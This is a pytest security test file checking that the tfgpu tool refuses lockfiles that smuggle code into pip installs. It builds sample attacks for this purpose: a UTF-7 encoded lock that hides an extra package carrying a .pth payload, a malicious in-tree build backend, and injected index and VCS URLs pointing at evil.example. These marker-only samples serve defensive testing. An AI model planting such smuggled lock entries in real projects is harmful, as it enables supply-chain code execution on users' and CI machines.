"""Issue 28 (safety, round four): locks that cannot smuggle code. A lockfile is someone else's file (a
colleague's repository, a CI artifact); `tfgpu create --from-lock FILE` must install exactly what it
pins, verified, and nothing else. Each attack is run through `python -m tfgpu create --from-lock ... --dry-run`
(the plan `create` would run); where the attack depends on what pip does with the file, a second test
shows it with the real pip on this machine (offline, local files only)."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

from tests.conftest import needs_engine
from tests.security.helpers import DATA, M60, python_with_pip, tfgpu

pytestmark = [pytest.mark.safety]

#: A real conda-lock file (conda-lock 2.5, recorded; tests/data/lock/SOURCES.md) with conda and pip packages.
RECORDED = DATA / "lock" / "conda-lock-4912053-install-with-pip-deps.yml"
#: Its first pip package on linux-64.
CERTIFI_URL = ("https://files.pythonhosted.org/packages/4c/dd/2234eab22353ffc7d94e8d13177aaa050113286e93e7b40eae01fbf7"
               "c3d9/certifi-2023.7.22-py3-none-any.whl")


def _env(tmp_path: Path) -> dict[str, str]:
    config = tmp_path / "config.toml"
    config.write_text("")
    return {**os.environ, "TFGPU_HOME": str(tmp_path / "home"), "TFGPU_CONFIG": str(config),
            "PIP_CONFIG_FILE": os.devnull}


def _plan_from_lock(tmp_path: Path, lock: Path, *more: str) -> subprocess.CompletedProcess[str]:
    """`tfgpu create --from-lock LOCK --dry-run`: what create would run (it runs nothing)."""
    return tfgpu("create", "--from-lock", str(lock), "--dry-run", "--facts", str(M60), *more, env=_env(tmp_path))


def _wheel(where: Path, name: str, pth: str = "") -> tuple[Path, str]:
    """A minimal real wheel (METADATA, WHEEL, RECORD; with ``pth``: a .pth file, which Python runs at every
    start) and its sha256."""
    where.mkdir(parents=True, exist_ok=True)
    path = where / f"{name}-1.0-py3-none-any.whl"
    info = f"{name}-1.0.dist-info"
    files = {f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: tfgpu-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    if pth:
        files[f"{name}.pth"] = pth
    record = [f"{k},sha256={base64.urlsafe_b64encode(hashlib.sha256(v.encode()).digest()).rstrip(b'=').decode()},"
              f"{len(v.encode())}" for k, v in files.items()]
    files[f"{info}/RECORD"] = "\n".join([*record, f"{info}/RECORD,,"]) + "\n"
    with zipfile.ZipFile(path, "w") as z:
        for k, v in files.items():
            z.writestr(k, v)
    return path, hashlib.sha256(path.read_bytes()).hexdigest()


# --------------------------------------------------------------------------- High 1: the encoding pip reads


#: PEP 263 declarations pip honours in a requirements file (pip/_internal/utils/encoding.py, auto_decode: a
#: "#" line among the first two that matches `coding[:=]\s*([-\w.]+)`).
DECLARATIONS = ["# -*- coding: utf-7 -*-\n", "# vim: set fileencoding=utf-7 :\n", "# Locked by tfgpu\n# coding=utf_7\n"]


def _utf7_lock(tmp_path: Path, declaration: str) -> tuple[Path, str]:
    """A pip lock that reads, as UTF-8, as one hashed requirement (okpkg) and a comment. In UTF-7 "+AAo-" is a
    newline: pip reads --no-index, two --find-links and a second hashed requirement, evilpkg, whose wheel
    carries a .pth file."""
    _, ok_sha = _wheel(tmp_path / "good", "okpkg")
    _, evil_sha = _wheel(tmp_path / "evil", "evilpkg", pth=f"import pathlib; pathlib.Path({str(tmp_path / 'PWNED')!r}).touch()\n")
    hidden = (f"+AAo---no-index+AAo---find-links {tmp_path / 'evil'}+AAo---find-links {tmp_path / 'good'}"
              f"+AAo-evilpkg==1.0 --hash=sha256:{evil_sha}")
    lock = tmp_path / "requirements.lock.txt"
    lock.write_text(f"{declaration}okpkg==1.0 --hash=sha256:{ok_sha}  # via tensorflow{hidden}\n")
    return lock, evil_sha


@pytest.mark.parametrize("declaration", DECLARATIONS, ids=["pep263", "vim", "second-line"])
def test_high1_pip_lock_with_an_encoding_declaration_other_than_utf8_is_refused(tmp_path: Path, declaration: str) -> None:
    """High 1. The attacker writes the lock. Today tfgpu reads it as UTF-8 and sees one hashed requirement
    (okpkg) and a comment, so `create --from-lock` plans `pip install --require-hashes -r FILE`; pip honours
    the file's `coding: utf-7` line and reads --no-index, --find-links DIR and evilpkg, a package the lock
    never showed, whose .pth file then runs at every Python start. Instead a lock declaring any encoding
    other than UTF-8 is refused: rc 2, naming the encoding."""
    lock, _ = _utf7_lock(tmp_path, declaration)
    res = _plan_from_lock(tmp_path, lock)
    assert res.returncode == 2, res.stdout + res.stderr
    assert "utf" in res.stderr.lower()


def test_high1_an_explicit_utf8_declaration_is_still_read(tmp_path: Path) -> None:
    """What High 1's fix must keep: `# -*- coding: utf-8 -*-` is the bytes tfgpu reads, so the lock is read."""
    _, sha = _wheel(tmp_path / "good", "okpkg")
    lock = tmp_path / "requirements.lock.txt"
    lock.write_text(f"# -*- coding: utf-8 -*-\nokpkg==1.0 --hash=sha256:{sha}\n")
    res = _plan_from_lock(tmp_path, lock)
    assert res.returncode in (0, 1), res.stderr
    assert "--require-hashes" in res.stdout


@pytest.mark.faults
def test_high1_premise_real_pip_reads_the_hidden_package(tmp_path: Path) -> None:
    """High 1's premise, with the real pip (`pip install --dry-run --report`, offline): the lock tfgpu reads as
    one requirement makes pip install two, evilpkg among them. Holds as long as pip honours PEP 263."""
    lock, _ = _utf7_lock(tmp_path, DECLARATIONS[0])
    report = tmp_path / "report.json"
    res = subprocess.run([python_with_pip(tmp_path), "-m", "pip", "install", "--dry-run", "--quiet", "--report", str(report),
                          "--no-deps", "--require-hashes", "-r", str(lock)], capture_output=True, text=True,
                         env={**os.environ, "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INDEX": "1"}, check=False, timeout=120)
    assert res.returncode == 0, res.stderr
    names = sorted(item["metadata"]["name"] for item in json.loads(report.read_text())["install"])
    assert names == ["evilpkg", "okpkg"]


# --------------------------------------------------------------------------- High 2: the lock's pip metadata


def _with_custom_metadata(tmp_path: Path, value: str, name: str = "conda-lock.yml") -> Path:
    """The recorded conda lock with `metadata.custom_metadata.tfgpu_pip_linux-64: VALUE` (what tfgpu's lock
    writer records for a recipe with an unlocked pip part), single-quoted as tfgpu's writer quotes."""
    text = RECORDED.read_text()
    quoted = "'" + value.replace("'", "''") + "'"
    text = text.replace("  sources:\n  - environment.yml\n",
                        f"  sources:\n  - environment.yml\n  custom_metadata:\n    tfgpu_pip_linux-64: {quoted}\n", 1)
    path = tmp_path / name
    path.write_text(text)
    return path


@needs_engine
@pytest.mark.parametrize("value", [
    "-e /tmp/tfgpu-r4-evilsrc tensorflow",
    "--extra-index-url http://evil.example/simple tensorflow",
    "tensorflow --index-url=http://evil.example/simple",
    "-r /tmp/tfgpu-r4-more-requirements.txt",
    "evil @ file:///tmp/tfgpu-r4-evilsrc",
    "git+https://evil.example/evil.git",
], ids=["editable-dir", "extra-index", "index-url", "include", "direct-dir-url", "vcs"])
def test_high2_conda_lock_pip_metadata_is_checked_like_every_pip_requirement(tmp_path: Path, value: str) -> None:
    """High 2. The attacker writes `custom_metadata.tfgpu_pip_linux-64` in a conda lock. Today it is split on
    spaces and handed to `pip install` as it is: an editable directory (its build backend runs), another
    index, an include file, a VCS or directory URL, all without hashes or any option check. Instead every pip
    requirement a lock or its metadata carries goes through the same check as a pip lock's lines: an option,
    a path or a URL that is not a hashed archive is refused, rc 2, before anything runs."""
    res = _plan_from_lock(tmp_path, _with_custom_metadata(tmp_path, value), "--platform", "linux-64")
    assert res.returncode == 2, res.stdout
    assert "evil" not in res.stdout


@needs_engine
def test_high2_the_lock_still_plans_without_custom_metadata(tmp_path: Path) -> None:
    """The recorded lock (no custom_metadata) still plans: the conda packages, then its hashed pip packages."""
    res = _plan_from_lock(tmp_path, RECORDED, "--platform", "linux-64")
    assert res.returncode in (0, 1), res.stderr
    assert "#sha256=92d6037539857d8206b8f6ae472e8b77db8058fec5937a1ef3f54304089edbb9" in res.stdout


# --------------------------------------------------------------------------- High 3: directory URLs


def _evil_source_tree(where: Path) -> Path:
    """A directory pip builds with its own in-tree backend (no download: `requires = []`); the backend leaves
    a mark when pip imports it."""
    where.mkdir(parents=True)
    (where / "pyproject.toml").write_text('[build-system]\nrequires = []\nbuild-backend = "evil_backend"\n'
                                          'backend-path = ["."]\n')
    (where / "evil_backend.py").write_text(
        "import pathlib\npathlib.Path(__file__).with_name('BACKEND_RAN').write_text('pip ran the lock\\'s code')\n"
        "def get_requires_for_build_wheel(config_settings=None):\n    return []\n"
        "def prepare_metadata_for_build_wheel(d, config_settings=None):\n    raise RuntimeError('stop')\n")
    return where


def _with_pip_url(tmp_path: Path, url: str) -> Path:
    path = tmp_path / "conda-lock.yml"
    path.write_text(RECORDED.read_text().replace(f"url: {CERTIFI_URL}", f"url: {url}", 1))
    return path


@needs_engine
@pytest.mark.parametrize("shape", ["dir", "dir/", "localhost-dir"])
def test_high3_conda_lock_pip_entry_with_a_directory_url_is_refused(tmp_path: Path, shape: str) -> None:
    """High 3. The attacker writes a conda lock whose pip package's `url:` is a file:// directory. Today it
    passes the URL check (`file://...`, no spaces) and is planned as `certifi @ file:///DIR#sha256=...`:
    pip builds the directory (its build backend runs) and a directory has no sha256 to check. Instead a
    directory (or VCS) URL is never accepted: rc 2."""
    tree = _evil_source_tree(tmp_path / "evilsrc")
    url = {"dir": tree.as_uri(), "dir/": tree.as_uri() + "/", "localhost-dir": "file://localhost" + str(tree)}[shape]
    res = _plan_from_lock(tmp_path, _with_pip_url(tmp_path, url), "--platform", "linux-64")
    assert res.returncode == 2, res.stdout
    assert "certifi @ file://" not in res.stdout


@needs_engine
@pytest.mark.faults
def test_high3_premise_real_pip_runs_the_build_backend_of_the_planned_directory(tmp_path: Path) -> None:
    """High 3's premise with the real pip: the requirement tfgpu planned for such a lock before the fix
    (``NAME @ file:///dir#sha256=...``, what `create --from-lock --dry-run` printed) makes `pip install --dry-run
    --no-index` import the directory's own build backend, i.e. run code from the lock, although it carries the
    lock's #sha256. tfgpu now refuses the lock (the test above); this keeps the reason on record."""
    tree = _evil_source_tree(tmp_path / "evilsrc")
    res = _plan_from_lock(tmp_path, _with_pip_url(tmp_path, tree.as_uri()), "--platform", "linux-64")
    found = re.search(r"'(certifi @ file://[^']+)'", res.stdout)
    assert found is None, "tfgpu plans a directory URL again (High 3)"
    requirement = f"certifi @ {tree.as_uri()}#sha256={'0' * 64}"  # the shape tfgpu planned before the fix
    subprocess.run([python_with_pip(tmp_path), "-m", "pip", "install", "--dry-run", "--quiet", "--no-deps", "--no-index",
                    "--disable-pip-version-check", requirement], capture_output=True, text=True, check=False, timeout=120,
                   env={**os.environ, "PIP_CONFIG_FILE": os.devnull})
    assert (tree / "BACKEND_RAN").is_file()


# --------------------------------------------------------------------------- new: what YAML says, not a line reader


@needs_engine
def test_new_custom_metadata_hidden_in_a_block_scalar_is_not_acted_on(tmp_path: Path) -> None:
    """New (R4-N15). tfgpu reads `metadata.custom_metadata` with a line reader of its own, rattler reads the
    rest. The attacker puts a `custom_metadata:` block inside a YAML block scalar (one of `sources:` strings):
    conda-lock, PyYAML and any reviewer's YAML tool see no custom_metadata at all, but today tfgpu's reader
    finds `tfgpu_pip_linux-64` there and plans `pip install evilpkg==6.6.6 --index-url=http://evil...`.
    Instead the lock is read as YAML reads it: nothing in a string is metadata (no unlocked pip step)."""
    yaml = pytest.importorskip("yaml")
    text = RECORDED.read_text().replace(
        "  sources:\n  - environment.yml\n",
        "  sources:\n  - environment.yml\n  - |\n    custom_metadata:\n"
        "      tfgpu_pip_linux-64: evilpkg==6.6.6 --index-url=http://evil.example/simple\n", 1)
    lock = tmp_path / "conda-lock.yml"
    lock.write_text(text)
    assert "custom_metadata" not in yaml.safe_load(text)["metadata"]  # what YAML (and conda-lock) reads
    res = _plan_from_lock(tmp_path, lock, "--platform", "linux-64")
    assert res.returncode in (0, 1, 2), res.stderr
    assert "evilpkg" not in res.stdout
